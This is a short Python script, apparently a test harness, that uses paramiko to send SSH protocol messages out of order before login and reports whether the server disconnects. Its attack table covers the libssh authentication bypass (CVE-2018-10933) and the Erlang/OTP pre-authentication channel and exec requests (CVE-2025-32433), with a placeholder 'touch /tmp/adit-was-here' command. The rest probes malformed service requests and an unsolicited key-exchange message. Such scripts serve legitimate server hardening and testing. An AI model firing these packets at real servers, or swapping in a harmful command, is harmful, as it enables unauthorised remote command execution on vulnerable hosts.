"""Breaks the order of the SSH protocol before logging in, with paramiko's engine as the honest part.

    paramiko_attack.py HOST PORT ATTACK

Prints "disconnected" when the server ended the connection within five seconds, else what it answered instead.
"""

import socket
import sys

import paramiko
from paramiko import Message


def message(number, *fields):
    """An SSH message: strings are SSH strings, integers uint32, booleans bytes (RFC 4251 section 5)."""
    packet = Message()
    packet.add_byte(bytes([number]))
    for field in fields:
        if isinstance(field, bool):
            packet.add_boolean(field)
        elif isinstance(field, int):
            packet.add_int(field)
        else:
            packet.add_string(field)
    return packet


ATTACKS = {
    # libssh, CVE-2018-10933: the client says that it is authenticated.
    "success": [message(52)],
    # Erlang/OTP, CVE-2025-32433: connection protocol before authentication.
    "channel-open": [message(90, "session", 0, 2**21, 2**15)],
    "channel-request": [message(98, 0, "exec", True, "touch /tmp/adit-was-here")],
    "global-request": [message(80, "tcpip-forward", True, "", 10080)],
    # Service requests that do not exist, or come out of order.
    "connection-service": [message(5, "ssh-connection")],
    "unknown-service": [message(5, "no-such-service")],
    # A message of the key exchange that nobody asked for.
    "newkeys": [message(21)],
}


def main():
    host, port, attack = sys.argv[1:]
    transport = paramiko.Transport(socket.create_connection((host, int(port)), timeout=5))
    transport.start_client(timeout=5)
    for packet in ATTACKS[attack]:
        transport._send_message(packet)
    transport.join(5)
    print("still connected" if transport.is_active() else "disconnected", flush=True)


main()
